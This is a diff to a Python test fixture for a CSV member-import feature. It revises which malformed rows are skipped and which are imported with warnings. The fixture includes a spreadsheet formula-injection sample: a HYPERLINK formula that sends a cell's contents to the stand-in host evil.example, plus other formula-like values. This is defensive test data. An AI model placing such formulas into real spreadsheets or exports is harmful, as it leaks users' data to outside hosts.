@@ -16,7 +16,8 @@ def _row(*cells: str) -> bytes:
 
 HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
-# One row per line unless noted; the comment says what the import must do with it.
+# One row per line unless noted; the comment says what the import must do with it. Only a bad
+# or missing address, or a duplicate, skips a row; a bad optional value is left out (a warning).
 # Line 4 is added, with formula-like name, last name and workplace kept as written.
 HOSTILE_LINES: list[bytes] = [
     b"\xef\xbb\xbfEmail,First name,Last name,Language,Postal code,Local,Workplace",  # 1 header
@@ -25,32 +26,44 @@ HOSTILE_LINES: list[bytes] = [
     _row("mal@example.org", HOSTILE_FORMULA, "+1-800-EVIL", "en", "", "Local 1004", "@SUM(1+1)"),
     b"BOB@Example.ORG,Bob,Tremblay,EN,T2P 1J9,Local 30,",  # 5 added (lower-cased)
     b"bob@example.org,Robert,Tremblay,en,,,",  # 6 duplicate of line 5
-    b"chlo\xe9@example.org,Chlo\xe9,Martin,fr,,,",  # 7 not valid UTF-8 (Latin-1 bytes)
-    b"zoe@example.org,Zo\xe9,Martin,fr,,,",  # 8 not valid UTF-8
-    f"long@example.org,{LONG},Smith,en,,,".encode(),  # 9 field longer than 1000
-    f"wide@example.org,{'y' * 300},Smith,en,,,".encode(),  # 10 first name longer than 200
+    b"chlo\xe9@example.org,Chlo\xe9,Martin,fr,,,",  # 7 address not valid UTF-8 (Latin-1 bytes)
+    b"zoe@example.org,Zo\xe9,Martin,fr,,,",  # 8 added without the first name (not UTF-8)
+    f"long@example.org,{LONG},Smith,en,,,".encode(),  # 9 added without the first name (> 1000)
+    f"wide@example.org,{'y' * 300},Smith,en,,,".encode(),  # 10 added without it (> 200)
     b"not-an-email,Nadia,Ali,en,,,",  # 11 invalid email
     b",Nobody,Here,en,,,",  # 12 missing email
     b",,,,,,",  # 13 a row of empty cells: ignored like a blank line
     b'dee@example.org,Dee,"O\'Neil",en,,Local 30,"Warehouse\nDock 4"',  # 14-15 added
     b"Ana@EXAMPLE.org,Anna,,,,,",  # 16 duplicate of line 2
-    b"sam@example.org,Sam,Lee,es,,,",  # 17 unknown language
+    b"sam@example.org,Sam,Lee,es,,,",  # 17 added in English (unknown language)
     b"",  # 18 blank
     b"",  # 19 blank
 ]
 HOSTILE_CSV = b"\r\n".join(HOSTILE_LINES) + b"\r\n"
 
-HOSTILE_ADDED = {"ana@example.org", "mal@example.org", "bob@example.org", "dee@example.org"}
+HOSTILE_ADDED = {
+    "ana@example.org",
+    "mal@example.org",
+    "bob@example.org",
+    "zoe@example.org",
+    "long@example.org",
+    "wide@example.org",
+    "dee@example.org",
+    "sam@example.org",
+}
 HOSTILE_SKIPS = [
     (6, "duplicate of line 5"),
     (7, "not valid UTF-8"),
-    (8, "not valid UTF-8"),
-    (9, "field 'First name' is longer than 1000 characters"),
-    (10, "first name is longer than 200 characters"),
     (11, "invalid email address"),
     (12, "missing email"),
     (16, "duplicate of line 2"),
-    (17, "unknown language 'es' (use en or fr)"),
+]
+# Imported, without the value each names (line, reason).
+HOSTILE_WARNINGS = [
+    (8, "field 'First name' is not valid UTF-8: imported without it"),
+    (9, "field 'First name' is longer than 1000 characters: imported without it"),
+    (10, "first name is longer than 200 characters: imported without it"),
+    (17, "unknown language 'es' (use en or fr): imported without it (new members get English)"),
 ]
 
 NO_EMAIL_COLUMN = b"Name,Phone\r\nAna Roy,555-0100\r\n"
